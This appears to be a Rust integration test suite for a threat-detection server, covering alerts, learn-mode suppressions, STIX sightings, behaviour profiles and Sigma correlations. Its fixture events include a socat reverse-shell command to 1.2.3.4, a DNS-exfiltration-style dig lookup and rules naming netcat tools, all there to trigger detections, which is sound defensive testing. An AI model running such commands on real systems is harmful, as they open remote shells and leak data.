//! Through the real router: telemetry events become stored alerts with the lifecycle
//! of hits; learn mode records would-be alerts and turns them into suppression rules; STIX
//! indicator patterns (with their attack model) match events and hits' sample events and are
//! stored as sightings linked to their alert; behaviour profiles learned on one replica score
//! deviations on another, and a reset through the API reaches both. Runs on SQLite, and on
//! PostgreSQL when `OUTPOST_TEST_PG_URL` is set (scripts/test.sh starts one).

use crate::common;
use crate::common::World;
use crate::common::world::Builder;

use axum::http::StatusCode;
use outpost_server::config::ServerConfig;
use outpost_store::Store;
use serde_json::{Value, json};

const RULES: &str = r#"
rules:
  - id: netcat-listener
    name: netcat run
    indicator_type: suspicious_process
    score: 120
    condition:
      any:
        - {field: process.name, equals: nc}
        - {field: process.name, equals: ncat}
  - id: socat-relay
    name: socat relay started
    score: 10
    condition:
      all:
        - {field: process.name, equals: socat}
    actions: [alert, {tag: relay}, {job: {kind: process.list}}]
"#;

/// A Sigma rule on runs of `/{tool}` (id `…{n}1`, level low) and an event-count correlation
/// on it (id `…{n}2`, level critical): `title`, per user within a minute, firing on
/// `condition` (`gte: 3`, `lt: 2`, …). The rule alone produces no indicator (the correlation
/// does not say `generate`).
fn sigma_count(tool: &str, n: u8, title: &str, condition: &str) -> String {
    format!(
        r#"
title: {tool} run
id: 9d2c1f00-0000-4000-8000-0000000000{n}1
name: {tool}_run
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: /{tool}
    condition: selection
level: low
---
title: {title}
id: 9d2c1f00-0000-4000-8000-0000000000{n}2
correlation:
    type: event_count
    rules:
        - {tool}_run
    group-by:
        - User
    timespan: 1m
    condition:
        {condition}
level: critical
"#
    )
}

/// curl run three times within a minute (correlation `…0002`).
fn sigma_correlation() -> String {
    sigma_count("curl", 0, "curl run three times within a minute", "gte: 3")
}

/// "wget run fewer than two times within a minute" (an upper bound, correlation `…0012`):
/// decided by the timer.
fn sigma_few() -> String {
    sigma_count("wget", 1, "wget run only once within a minute", "lt: 2")
}

/// The STIX indicator of [`stix_model`].
const DIG_INDICATOR: &str = "indicator--1a2b3c4d-0000-4000-8000-000000000003";

/// A STIX attack model: the crew's DNS exfiltration, indicated by dig resolving a long
/// random label.
fn stix_model() -> Value {
    common::model_bundle(
        "1a2b3c4d-0000-4000-8000-0000000000",
        "Blind RCE crew",
        ("DNS exfiltration", Some("T1048.003")),
        (
            "DNS tool with a long random label",
            r"[process:name = 'dig' AND process:command_line MATCHES '[a-z0-9]{16,}\\.']",
        ),
    )
}

/// The configuration of one replica; replicas on one database share the signing key of the
/// first one (`replica1`).
pub(crate) fn config(dir: &std::path::Path, data: &std::path::Path) -> ServerConfig {
    let rules = dir.join("rules");
    let stix = dir.join("stix");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::create_dir_all(&stix).unwrap();
    std::fs::write(rules.join("local.yml"), RULES).unwrap();
    std::fs::write(rules.join("sigma_correlation.yml"), sigma_correlation()).unwrap();
    std::fs::write(stix.join("dns.json"), stix_model().to_string()).unwrap();
    let path = dir.join(format!(
        "server-{}.toml",
        data.file_name().unwrap().to_string_lossy()
    ));
    let detect = format!("stix_dir = {stix:?}\nstix_score = 150\nalert_threshold = 100");
    let text = [
        common::detect_toml(data, &rules, &detect),
        common::file_output_toml("siem", &data.join("events.jsonl"), &["event"], 1),
        "[detect.profiles]\nlearning_secs = 60\nabnormal_score = 120\nsync_secs = 3600\n".into(),
    ];
    std::fs::write(&path, text.concat()).unwrap();
    let mut cfg = ServerConfig::load(Some(&path)).unwrap();
    let first_key = dir.join("replica1").join(outpost_server::intel::KEY_FILE);
    if first_key.exists() {
        cfg.intel.signing_key_file = Some(first_key);
    }
    cfg
}

async fn replica(
    store: &Store,
    dir: &std::path::Path,
    n: u32,
) -> (axum::Router, outpost_server::AppState) {
    let data = dir.join(format!("replica{n}"));
    let state = outpost_server::build_state(config(dir, &data), store.clone())
        .await
        .unwrap();
    (outpost_server::router(state.clone()), state)
}

/// Tenant acme with device web1, served by replica 1 (on `store` with `world`).
fn scene<'a>() -> Builder<'a> {
    World::builder()
        .tenant("acme", &["web1"])
        .config(|c, dir| *c = config(dir, &dir.join("replica1")))
}

pub(crate) async fn world(store: Store) -> World {
    scene().store(store).build().await
}

pub(crate) fn exec(ts: &str, name: &str, args: &[&str], parent: Option<&str>) -> Value {
    let mut p = json!({"pid": 77, "name": name, "exe": format!("/usr/bin/{name}"), "args": args});
    if let Some(par) = parent {
        p["parent"] = json!({"pid": 1, "exe": par});
    }
    json!({"ts": ts, "kind": "process_exec", "source": "test", "process": p})
}

pub(crate) async fn post_events(
    app: &axum::Router,
    token: &str,
    batch: &str,
    events: Vec<Value>,
) -> Value {
    let (s, v) = common::call(
        app,
        "POST",
        "/api/v1/events",
        Some(token),
        Some(json!({"batch_id": batch, "events": events})),
    )
    .await
    .sv();
    assert_eq!(s, StatusCode::OK, "{v}");
    v
}

/// [`post_events`] as the first device of tenant acme.
async fn post_a(w: &World, batch: &str, events: Vec<Value>) -> Value {
    post_events(&w.app, &w.a().device().token, batch, events).await
}

/// [`post_a`] of one start of process `name` with `args` at `ts`.
async fn post_exec(w: &World, batch: &str, ts: &str, name: &str, args: &[&str]) -> Value {
    post_a(w, batch, vec![exec(ts, name, args, None)]).await
}

/// A start of process `name` with `args` by nginx (`/usr/sbin/nginx`) at `ts`.
fn nginx_child(ts: &str, name: &str, args: &[&str]) -> Value {
    exec(ts, name, args, Some("/usr/sbin/nginx"))
}

/// A curl run (the rule of [`sigma_correlation`]) at `ts`.
fn curl(ts: &str) -> Value {
    exec(ts, "curl", &["curl", "http://example.test/"], None)
}

/// The time of an alert's event.
fn event_ts(alert: &Value) -> &str {
    alert["event"]["ts"].as_str().unwrap()
}

/// `PUT /api/v1/detect/learn` with `body` as the holder of `token`.
async fn set_learn(w: &World, token: &str, body: Value) -> (StatusCode, Value) {
    w.call("PUT", "/api/v1/detect/learn", Some(token), Some(body))
        .await
        .sv()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn event_alerts_have_the_lifecycle_of_hits() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store).await;
        let events = vec![
            exec("2026-12-01T10:00:00Z", "ls", &["ls"], None),
            exec("2026-12-01T10:00:01Z", "nc", &["nc", "-l", "4444"], None),
        ];
        let r = post_a(&w, "e1", events.clone()).await;
        assert_eq!(
            (r["accepted"].as_u64(), r["alerts"].as_u64()),
            (Some(2), Some(1)),
            "{name}: {r}"
        );
        // A retry stores nothing twice.
        post_a(&w, "e1", events).await;
        let (s, page) = w.get("/api/v1/alerts?rule=netcat-listener", &w.admin).await;
        assert_eq!(s, StatusCode::OK, "{page}");
        let items = page["items"].as_array().unwrap();
        assert_eq!(items.len(), 1, "{name}: {page}");
        let a = &items[0];
        assert_eq!(a["process_name"], "nc");
        assert_eq!(a["state"], "new");
        // The rule (120) and the static engine's risky process nc (70).
        assert_eq!(a["risk_score"], 190, "{a}");
        assert_eq!(a["event"]["process"]["args"][2], "4444");
        let id = a["id"].as_i64().unwrap();
        // The customer sees the simplified alert and may only acknowledge it.
        let (s, c) = w
            .get(&format!("/api/v1/alerts/{id}"), &w.a().customer)
            .await;
        assert_eq!(s, StatusCode::OK);
        assert!(
            c.get("event").is_none() && c.get("indicators").is_none(),
            "{c}"
        );
        let state_uri = format!("/api/v1/alerts/{id}/state");
        let (customer, admin) = (&w.a().customer, &w.admin);
        for (token, change, status) in [
            (
                customer,
                json!({"state": "false_positive"}),
                StatusCode::FORBIDDEN,
            ),
            (
                customer,
                json!({"state": "acknowledged", "expected_version": 0}),
                StatusCode::OK,
            ),
            (
                admin,
                json!({"state": "false_positive", "expected_version": 0}),
                StatusCode::CONFLICT,
            ),
            (
                admin,
                json!({"state": "false_positive", "expected_version": 1, "note": "pentest"}),
                StatusCode::OK,
            ),
        ] {
            let (s, v) = w.post(&state_uri, token, change.clone()).await;
            assert_eq!(s, status, "{name}: {change}: {v}");
        }
        let (_, h) = w
            .get(&format!("/api/v1/alerts/{id}/history"), &w.admin)
            .await;
        let h = h["items"].as_array().unwrap();
        assert_eq!(h.len(), 2);
        assert_eq!(h[1]["to_state"], "false_positive");
        assert_eq!(h[1]["note"], "pentest");
        let (_, open) = w.get("/api/v1/alerts?state=new", &w.admin).await;
        assert!(open["items"].as_array().unwrap().is_empty(), "{open}");
        // A suppression rule narrowed to the rule applies to alerts too.
        let (s, v) = w.post("/api/v1/suppressions", &w.admin, json!({"tenant_id": w.a().id, "rule_name": "netcat-listener", "process_name": "nc"})).await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
        let r = post_exec(&w, "e2", "2026-12-01T11:00:00Z", "nc", &["nc"]).await;
        assert_eq!(r["alerts"], 0, "{name}: suppressed: {r}");
        let (_, sup) = w.get("/api/v1/alerts?state=suppressed", &w.admin).await;
        assert_eq!(sup["items"].as_array().unwrap().len(), 1, "{sup}");
        let r = post_exec(&w, "e3", "2026-12-01T11:00:00Z", "ncat", &["ncat"]).await;
        assert_eq!(r["alerts"], 1, "another process still alerts: {r}");
        // A rule's job action queues a job for the device, once (not again on a retry).
        let socat = vec![exec(
            "2026-12-01T11:30:00Z",
            "socat",
            &["socat", "tcp:1.2.3.4:9", "exec:sh"],
            None,
        )];
        let r = post_a(&w, "e4", socat.clone()).await;
        assert_eq!(r["alerts"], 1, "{r}");
        post_a(&w, "e4", socat).await;
        let (s, jobs) = w
            .get(&format!("/api/v1/jobs?tenant={}", w.a().id), &w.admin)
            .await;
        assert_eq!(s, StatusCode::OK, "{jobs}");
        let list: Vec<&Value> = jobs
            .as_array()
            .or_else(|| jobs["items"].as_array())
            .unwrap()
            .iter()
            .filter(|j| j["kind"] == "process.list")
            .collect();
        assert_eq!(list.len(), 1, "{name}: {jobs}");
        assert_eq!(list[0]["device_id"], w.a().device().id.as_str());
        // Its tag action tags the forwarded event.
        let siem = w.dir.path().join("replica1").join("events.jsonl");
        let t0 = std::time::Instant::now();
        let tagged = loop {
            let text = std::fs::read_to_string(&siem).unwrap_or_default();
            let found: Vec<Value> = text
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .filter(|d| d["event"]["process"]["name"] == "socat")
                .collect();
            if !found.is_empty() || t0.elapsed() > std::time::Duration::from_secs(20) {
                break found;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        };
        assert!(
            !tagged.is_empty(),
            "{name}: the socat event was not forwarded"
        );
        assert_eq!(
            tagged[0]["event"]["tags"],
            json!(["relay"]),
            "{}",
            tagged[0]
        );
        // Bad filters are clear errors.
        let (s, v) = w.get("/api/v1/alerts?state=bogus", &w.admin).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
        assert!(v["error"]["message"].as_str().unwrap().contains("bogus"));
        let (s, _) = w.get("/api/v1/alerts/999999", &w.admin).await;
        assert_eq!(s, StatusCode::NOT_FOUND);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn learn_mode_turns_would_be_alerts_into_suppressions() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store).await;
        let on = json!({"tenant_id": "acme", "on": true, "hours": 24});
        let (s, v) = set_learn(&w, &w.admin, on).await;
        assert_eq!(s, StatusCode::OK, "{v}");
        assert_eq!(v["learning"], true);
        // Refused: a learning period of no hours; a customer switching learn mode.
        for (token, change, status) in [
            (
                &w.admin,
                json!({"tenant_id": "acme", "on": true, "hours": 0}),
                StatusCode::UNPROCESSABLE_ENTITY,
            ),
            (
                &w.a().customer,
                json!({"tenant_id": "acme", "on": false}),
                StatusCode::FORBIDDEN,
            ),
        ] {
            let (s, v) = set_learn(&w, token, change.clone()).await;
            assert_eq!(s, status, "{change}: {v}");
        }
        let nc_backup = |batch, ts| post_exec(&w, batch, ts, "nc", &["nc", "backup-host"]);
        let r = nc_backup("l1", "2026-12-01T10:00:00Z").await;
        assert_eq!(r["alerts"], 0, "{name}: learned, not alerted: {r}");
        let (_, learned) = w.get("/api/v1/alerts?learned=true", &w.admin).await;
        let items = learned["items"].as_array().unwrap();
        assert_eq!(items.len(), 1, "{learned}");
        assert_eq!(items[0]["state"], "suppressed");
        assert_eq!(items[0]["state_changed_by"], "learn-mode");
        let (s, st) = w
            .get(
                &format!("/api/v1/detect/learn?tenant={}", w.a().id),
                &w.a().customer,
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{st}");
        // The local rule and the static engine's risky-process entry fired.
        let p = st["proposals"].as_array().unwrap();
        assert_eq!(p.len(), 2, "{st}");
        let nl = p
            .iter()
            .find(|p| p["rule_name"] == "netcat-listener")
            .unwrap();
        assert_eq!(
            (
                nl["process_name"].as_str(),
                nl["alerts"].as_i64(),
                nl["applied"].as_bool()
            ),
            (Some("nc"), Some(1), Some(false))
        );
        let (s, created) = w
            .post(
                "/api/v1/detect/learn/apply",
                &w.admin,
                json!({"tenant_id": w.a().id}),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{created}");
        assert_eq!(created["items"].as_array().unwrap().len(), 2, "{created}");
        let (_, v) = set_learn(&w, &w.admin, json!({"tenant_id": w.a().id, "on": false})).await;
        assert_eq!(v["learning"], false);
        assert!(
            v["proposals"]
                .as_array()
                .unwrap()
                .iter()
                .all(|p| p["applied"] == true),
            "{v}"
        );
        let r = nc_backup("l2", "2026-12-01T12:00:00Z").await;
        assert_eq!(
            r["alerts"], 0,
            "{name}: whitelisted by what was learned: {r}"
        );
        let r = post_exec(&w, "l3", "2026-12-01T12:00:00Z", "ncat", &["ncat"]).await;
        assert_eq!(r["alerts"], 1, "{r}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store).await;
        let dig = exec(
            "2026-12-01T10:00:00Z",
            "dig",
            &["dig", "+short", "ifjeow0234f90iwefo2odj.wat.lol"],
            None,
        );
        let r = post_a(
            &w,
            "s1",
            vec![
                dig.clone(),
                exec("2026-12-01T10:00:01Z", "dig", &["dig", "example.com"], None),
            ],
        )
        .await;
        assert_eq!(r["alerts"], 1, "{name}: {r}");
        let (_, page) = w.get("/api/v1/sightings", &w.admin).await;
        let items = page["items"].as_array().unwrap();
        assert_eq!(
            items.len(),
            1,
            "{name}: only the random label matches: {page}"
        );
        let s = &items[0];
        assert_eq!(s["indicator_id"], DIG_INDICATOR);
        assert_eq!(s["sighting"]["type"], "sighting");
        assert_eq!(s["sighting"]["sighting_of_ref"], s["indicator_id"]);
        assert_eq!(s["attack"]["attack_patterns"][0]["mitre_id"], "T1048.003");
        assert_eq!(s["attack"]["intrusion_sets"][0]["name"], "Blind RCE crew");
        assert!(!s["observed"].as_array().unwrap().is_empty());
        let (_, alerts) = w.get("/api/v1/alerts", &w.admin).await;
        let a = &alerts["items"][0];
        assert_eq!(s["alert_id"], a["id"], "the sighting names its alert");
        assert!(
            a["indicators"]
                .as_array()
                .unwrap()
                .iter()
                .any(|i| i["engine"] == "stix"
                    && i["extra_info"].as_str().unwrap().contains("T1048.003")),
            "{a}"
        );
        // A hit's sample event matches too (stored once, also on a retry).
        let hit = json!({"batch_id": "h1", "tenant_id": w.a().id, "device_id": w.a().device().id, "hostname": "web1",
            "agent_version": "t", "hotlist_version": "v1", "hits": [{"remote_ip": "203.0.113.5", "remote_port": 53,
            "protocol": "udp", "process_name": "dig", "pid": 77, "first_seen_utc": "2026-12-01T10:00:00Z",
            "last_seen_utc": "2026-12-01T10:00:00Z", "hit_count": 1, "sample_events": [dig]}]});
        for _ in 0..2 {
            let (st, v) = w
                .post("/api/v1/hits", &w.a().device().token, hit.clone())
                .await;
            assert_eq!(st, StatusCode::OK, "{v}");
        }
        let (_, page) = w
            .get(
                &format!(
                    "/api/v1/sightings?indicator={DIG_INDICATOR}&device={}",
                    w.a().device().id
                ),
                &w.admin,
            )
            .await;
        let items = page["items"].as_array().unwrap();
        assert_eq!(items.len(), 2, "{name}: {page}");
        assert_eq!(items[0]["batch_id"], "hits:h1");
        // The rules status lists the loaded patterns.
        let (_, st) = w.get("/api/v1/detect/rules", &w.admin).await;
        assert_eq!(st["stix"]["patterns"], 1, "{st}");
    }
}

/// A sighting the database refuses is no silent drop: the batch is refused (the agent delivers
/// it again), the refused sightings are counted, and the delivery after the database takes
/// them again stores the sighting.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sighting_the_database_refuses_is_counted_and_its_batch_refused() {
    let w = scene().build().await;
    // The real database refuses every sighting (a trigger), the rest of the batch is fine.
    w.sql("CREATE TRIGGER refuse_sightings BEFORE INSERT ON sightings BEGIN SELECT RAISE(ABORT, 'sightings refused'); END")
        .await;
    let dig = exec(
        "2026-12-01T10:00:00Z",
        "dig",
        &["dig", "+short", "ifjeow0234f90iwefo2odj.wat.lol"],
        None,
    );
    let batch = json!({"batch_id": "refused", "events": [dig]});
    let failed = || outpost_server::metrics::metrics().sightings_failed.get();
    let before = failed();
    let (s, v) = w
        .post("/api/v1/events", &w.a().device().token, batch.clone())
        .await;
    assert!(s.is_server_error(), "{s} {v}");
    assert_eq!(failed() - before, 1, "the refused sighting is counted");
    let (_, page) = w.get("/api/v1/sightings", &w.admin).await;
    assert_eq!(page["items"].as_array().unwrap().len(), 0, "{page}");
    // Delivered again once the database takes sightings: stored, nothing counted.
    w.sql("DROP TRIGGER refuse_sightings").await;
    let (s, v) = w.post("/api/v1/events", &w.a().device().token, batch).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(failed() - before, 1);
    let (_, page) = w.get("/api/v1/sightings", &w.admin).await;
    assert_eq!(page["items"].as_array().unwrap().len(), 1, "{page}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store.clone()).await;
        let (app_b, state_b) = replica(&store, w.dir.path(), 2).await;
        let prof_a = w.state.scoring.profiles().unwrap().clone();
        let prof_b = state_b.scoring.profiles().unwrap().clone();
        // Replica A learns nginx starting ls during the window (60 s from the first event).
        post_a(
            &w,
            "p1",
            vec![
                nginx_child("2026-12-01T10:00:00Z", "ls", &["ls", "-l"]),
                nginx_child("2026-12-01T10:00:30Z", "ls", &["ls", "-l"]),
            ],
        )
        .await;
        prof_a.sync(&store).await.unwrap();
        prof_b.sync(&store).await.unwrap();
        // After the window, on replica B: the known child is normal, a shell is a deviation.
        let r = post_events(
            &app_b,
            &w.a().device().token,
            "p2",
            vec![
                nginx_child("2026-12-01T10:05:00Z", "ls", &["ls", "-l"]),
                nginx_child("2026-12-01T10:05:01Z", "sh", &["sh", "-c", "id"]),
            ],
        )
        .await;
        assert_eq!(r["alerts"], 1, "{name}: {r}");
        let (_, alerts) = common::call(&app_b, "GET", "/api/v1/alerts", Some(&w.admin), None)
            .await
            .sv();
        let a = &alerts["items"][0];
        assert_eq!(a["process_name"], "sh", "{a}");
        let ind = a["indicators"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["engine"] == "profile")
            .unwrap();
        assert_eq!(
            (ind["engine"].as_str(), ind["indicator_type"].as_str()),
            (Some("profile"), Some("abnormal_behavior")),
            "{a}"
        );
        assert!(
            ind["extra_info"]
                .as_str()
                .unwrap()
                .contains("new child process: /usr/bin/sh"),
            "{ind}"
        );
        // Visible in the API (after B merged its deviation).
        prof_b.sync(&store).await.unwrap();
        let (s, page) = w
            .get(
                "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
                &w.a().customer,
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{page}");
        let p = &page["items"][0];
        assert_eq!(p["children"], json!(["/usr/bin/ls"]), "{name}: {p}");
        assert_eq!(p["status"], "profiled");
        assert_eq!(p["deviations"], 1, "{p}");
        let (_, all) = w.get("/api/v1/profiles?status=profiled", &w.admin).await;
        assert!(all["items"].as_array().unwrap().len() >= 2, "{all}");
        // Reset on B reaches A at its next sync: nginx learns again, the shell is not scored.
        let nginx = json!({"tenant_id": w.a().id, "subject": "exe:/usr/sbin/nginx"});
        let nope = json!({"tenant_id": w.a().id, "subject": "exe:/nope"});
        for (token, reset, status, count) in [
            (&w.a().customer, nginx.clone(), StatusCode::FORBIDDEN, None),
            (&w.admin, nginx, StatusCode::OK, Some(1)),
            (&w.admin, nope, StatusCode::NOT_FOUND, None),
        ] {
            let (s, v) = common::call(
                &app_b,
                "POST",
                "/api/v1/profiles/reset",
                Some(token),
                Some(reset),
            )
            .await
            .sv();
            assert_eq!(s, status, "{v}");
            if let Some(n) = count {
                assert_eq!(v["reset"], n);
            }
        }
        prof_a.sync(&store).await.unwrap();
        let r = post_a(
            &w,
            "p3",
            vec![nginx_child(
                "2026-12-01T10:10:00Z",
                "sh",
                &["sh", "-c", "id"],
            )],
        )
        .await;
        assert_eq!(
            r["alerts"], 0,
            "{name}: learning again after the reset: {r}"
        );
        prof_a.sync(&store).await.unwrap();
        let (_, page) = w
            .get(
                "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
                &w.admin,
            )
            .await;
        let p = &page["items"][0];
        assert_eq!(
            (p["epoch"].as_i64(), p["status"].as_str()),
            (Some(1), Some("profiled")),
            "{p}"
        );
        assert_eq!(p["children"], json!(["/usr/bin/sh"]), "{p}");
    }
}

/// Sigma correlation rules in the server's detection pipeline: state per tenant
/// (another tenant's matches do not count), the alert on the match that completes the
/// correlation (the correlation's 90 plus the static engine's 50 for curl; curl alone is 50,
/// under the threshold of 100), and the counters on `/metrics`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigma_correlations_alert_per_tenant() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store.clone()).await;
        let beta = store.create_tenant("beta").await.unwrap();
        let (_, beta_token) = store
            .create_device(&beta.id, "web2", None, None)
            .await
            .unwrap();
        // Two curl runs in tenant beta: no alert.
        let r = post_events(
            &w.app,
            &beta_token,
            "b1",
            vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")],
        )
        .await;
        assert_eq!(r["alerts"], 0, "{name}: {r}");
        // Three in acme: the third completes the correlation (beta's two do not count).
        let r = post_a(
            &w,
            "a1",
            vec![
                curl("2026-12-01T10:00:10Z"),
                curl("2026-12-01T10:00:20Z"),
                curl("2026-12-01T10:00:30Z"),
            ],
        )
        .await;
        assert_eq!(r["alerts"], 1, "{name}: {r}");
        let (s, page) = w
            .get(
                "/api/v1/alerts?rule=9d2c1f00-0000-4000-8000-000000000002",
                &w.admin,
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{page}");
        let items = page["items"].as_array().unwrap();
        assert_eq!(items.len(), 1, "{name}: {page}");
        let a = &items[0];
        assert_eq!(a["tenant_id"], w.a().id.as_str(), "{a}");
        assert_eq!(a["risk_score"], 140, "{a}");
        assert!(event_ts(a).starts_with("2026-12-01T10:00:30"), "{a}");
        // The third in beta (within its minute) completes beta's own correlation.
        let r = post_events(
            &w.app,
            &beta_token,
            "b2",
            vec![curl("2026-12-01T10:00:40Z")],
        )
        .await;
        assert_eq!(r["alerts"], 1, "{name}: {r}");
        let m = w.call("GET", "/metrics", None, None).await;
        let text = String::from_utf8_lossy(&m.body).into_owned();
        let fired = text
            .lines()
            .find_map(|l| l.strip_prefix("outpost_detect_correlations_fired_total "))
            .and_then(|v| v.trim().parse::<f64>().ok())
            .unwrap_or_else(|| panic!("no correlation counter in /metrics:\n{text}"));
        assert!(fired >= 2.0, "{fired}");
        assert!(
            text.contains("outpost_detect_correlation_evictions_total "),
            "{text}"
        );
    }
}

async fn alerts_of(w: &World, rule: &str) -> Vec<Value> {
    let (s, page) = w
        .get(&format!("/api/v1/alerts?rule={rule}"), &w.admin)
        .await;
    assert_eq!(s, StatusCode::OK, "{page}");
    page["items"].as_array().unwrap().clone()
}

/// A retried upload (same device, same batch id: the agent did not get the answer) does not
/// count its matches again, and gets the correlation alerts its first upload got.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigma_correlations_count_a_retried_batch_once() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store).await;
        let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
        assert_eq!(post_a(&w, "r1", two.clone()).await["alerts"], 0);
        // The retry: still two matches, not four (which would complete the correlation).
        let r = post_a(&w, "r1", two).await;
        assert_eq!(
            r["alerts"], 0,
            "{name}: the retried batch was counted again: {r}"
        );
        // The third match completes it.
        let r = post_a(&w, "r2", vec![curl("2026-12-01T10:00:10Z")]).await;
        assert_eq!(r["alerts"], 1, "{name}: {r}");
        // A batch that completed one, retried: the same alert, not a second count.
        let three = vec![
            curl("2026-12-01T10:01:00Z"),
            curl("2026-12-01T10:01:01Z"),
            curl("2026-12-01T10:01:02Z"),
        ];
        assert_eq!(post_a(&w, "r3", three.clone()).await["alerts"], 1);
        assert_eq!(post_a(&w, "r3", three).await["alerts"], 1);
        let items = alerts_of(&w, "9d2c1f00-0000-4000-8000-000000000002").await;
        assert_eq!(items.len(), 2, "{name}: {items:?}");
        // Nothing left over from the retries: one more match is the first of a new window.
        let r = post_a(&w, "r4", vec![curl("2026-12-01T10:01:03Z")]).await;
        assert_eq!(r["alerts"], 0, "{name}: {r}");
    }
}

/// A rule reload (another rule file added) keeps the windows of the correlations it did not
/// change: the third match after the reload completes the count of the two before it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigma_correlations_survive_a_rule_reload() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store).await;
        let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
        assert_eq!(post_a(&w, "s1", two).await["alerts"], 0);
        let handle = w.state.scoring.rules().unwrap().clone();
        let rules_dir = handle.dir().unwrap().to_path_buf();
        std::fs::write(rules_dir.join("timer.yml"), sigma_few()).unwrap();
        handle.reload().unwrap();
        assert_eq!(handle.status().generation, 2);
        let r = post_a(&w, "s2", vec![curl("2026-12-01T10:00:10Z")]).await;
        assert_eq!(
            r["alerts"], 1,
            "{name}: the reload reset the correlation: {r}"
        );
    }
}

/// A correlation with an upper bound fires when its window is over, without a later event:
/// the timer stores the alert on the window's last match (scored like an upload: wget 50 plus
/// the correlation's 90), once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigma_correlation_upper_bound_fires_on_the_timer() {
    let dir = tempfile::tempdir().unwrap();
    for (name, store, _) in common::stores(dir.path(), "detection").await {
        let w = world(store).await;
        let handle = w.state.scoring.rules().unwrap().clone();
        std::fs::write(handle.dir().unwrap().join("timer.yml"), sigma_few()).unwrap();
        handle.reload().unwrap();
        let wget = |ts: &str| exec(ts, "wget", &["wget", "http://example.test/"], None);
        let r = post_a(&w, "t1", vec![wget("2026-12-01T11:00:00Z")]).await;
        assert_eq!(r["alerts"], 0, "{name}: {r}");
        // Before the window is over (event time, plus the grace for late uploads): nothing.
        let early = chrono::DateTime::parse_from_rfc3339("2026-12-01T11:00:30Z")
            .unwrap()
            .with_timezone(&chrono::Utc)
            + chrono::TimeDelta::from_std(outpost_server::scoring::CORRELATION_TIMER_GRACE)
                .unwrap();
        assert_eq!(
            outpost_server::correlation_timer_tick(&w.state, early).await,
            0
        );
        let now = chrono::Utc::now();
        assert_eq!(
            outpost_server::correlation_timer_tick(&w.state, now).await,
            1,
            "{name}"
        );
        assert_eq!(
            outpost_server::correlation_timer_tick(&w.state, now).await,
            0,
            "{name}"
        );
        let items = alerts_of(&w, "9d2c1f00-0000-4000-8000-000000000012").await;
        assert_eq!(items.len(), 1, "{name}: {items:?}");
        let a = &items[0];
        assert_eq!(a["risk_score"], 140, "{a}");
        assert_eq!(a["device_id"], w.a().device().id.as_str(), "{a}");
        assert!(event_ts(a).starts_with("2026-12-01T11:00:00"), "{a}");
    }
}
